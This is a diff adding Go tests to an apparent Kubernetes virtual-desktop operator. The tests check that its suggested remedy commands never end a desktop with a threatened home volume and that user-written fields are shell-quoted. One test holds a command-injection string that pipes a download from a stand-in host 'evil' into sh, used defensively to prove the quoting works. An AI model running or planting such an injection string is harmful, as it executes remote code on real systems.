@@ -5,6 +5,7 @@ import (
 	"go/ast"
 	"go/parser"
 	"go/token"
+	"maps"
 	"os"
 	"path/filepath"
 	"slices"
@@ -14,9 +15,11 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"sigs.k8s.io/yaml"
 
 	vdi "github.com/vdi-platform/vdi-platform/operator/api/v1alpha1"
+	"github.com/vdi-platform/vdi-platform/platform/wire"
 	"github.com/vdi-platform/vdi-platform/renderer"
 )
 
@@ -144,4 +147,71 @@ func TestAdviceNeedsNoMoreThanTheSession(t *testing.T) {
 
 func TestHomeClaimName(t *testing.T) {
 	assert.Equal(t, renderer.HomeClaimName("alice"), homeClaimName("alice"))
+}
+
+// Nothing that is advised ends a desktop whose home lasts only as long, or starts one without
+// its home.
+func TestAdviceNeverCostsAHome(t *testing.T) {
+	reasons := slices.Collect(maps.Keys(advice()))
+	for _, home := range []string{vdi.ReasonHomeLeaving, vdi.ReasonHomeMissing, vdi.ReasonHomeLost} {
+		for _, reason := range append(reasons, vdi.ReasonAsExpected, vdi.ReasonSuspended, vdi.ReasonNewRevision) {
+			for _, phase := range []vdi.Phase{vdi.PhasePending, vdi.PhaseCreating, vdi.PhaseRunning, vdi.PhaseSuspended, vdi.PhaseFailed} {
+				for _, policy := range []vdi.RunPolicy{vdi.RunPolicyRunning, vdi.RunPolicySuspended} {
+					s := &vdi.VDISession{Spec: vdi.VDISessionSpec{RunPolicy: policy}}
+					s.Status = vdi.VDISessionStatus{
+						Phase: phase, PodName: "alice", LastExit: &vdi.ExitStatus{Reason: "OOMKilled"},
+						Conditions: []metav1.Condition{
+							{Type: vdi.ConditionReady, Reason: reason},
+							{Type: vdi.ConditionHomeReady, Reason: home},
+							{Type: vdi.ConditionUpdatePending, Reason: reason},
+						},
+					}
+					findings := remedies(Facts{Session: s})
+					assert.NotEmpty(t, findings)
+					for _, finding := range findings {
+						for _, word := range []string{"suspend", "delete", "resume"} {
+							assert.NotContains(t, finding.Command, word, "%s, %s, %s, %s", home, reason, phase, policy)
+						}
+					}
+				}
+			}
+		}
+	}
+}
+
+// What people write into a session becomes no command of whoever follows the advice.
+func TestCommandsAreNotWrittenByUsers(t *testing.T) {
+	const evil = "x; curl evil|sh 'y' $(z)"
+	for reason, advise := range advice() {
+		s := &vdi.VDISession{}
+		s.Name, s.Namespace = "alice", "desktops"
+		s.Spec.User, s.Spec.Template, s.Spec.Persistence.ExistingClaim = evil, "plain", evil
+		for _, finding := range advise(Facts{Session: s}) {
+			assert.NotContains(t, strings.ReplaceAll(finding.Command, Quote(evil), ""), "evil", reason)
+		}
+		s.Status.Home = &vdi.HomeStatus{ClaimName: "files"}
+		for _, finding := range advise(Facts{Session: s}) {
+			if strings.Contains(finding.Command, "describe pvc") {
+				assert.Contains(t, finding.Command, " files", "%s: the claim that is in use", reason)
+			}
+		}
+	}
+}
+
+func TestQuote(t *testing.T) {
+	for text, want := range map[string]string{
+		"alice@example.com": "alice@example.com", "": "''", "eve o'hara": `'eve o'\''hara'`, "$(x)": "'$(x)'", "=ls": "'=ls'", "a=b": "a=b",
+	} {
+		assert.Equal(t, want, Quote(text))
+	}
+}
+
+// A claim is handed over to somebody.
+func TestClaimIsHandedToNobody(t *testing.T) {
+	s := &vdi.VDISession{}
+	for _, finding := range forHomeOfAnother(Facts{Session: s}) {
+		assert.NotContains(t, finding.Command, "label")
+	}
+	s.Name, s.Status.Identity = "alice", "abc"
+	assert.Contains(t, forHomeOfAnother(Facts{Session: s})[1].Command, wire.LabelHomeFor+"=abc")
 }
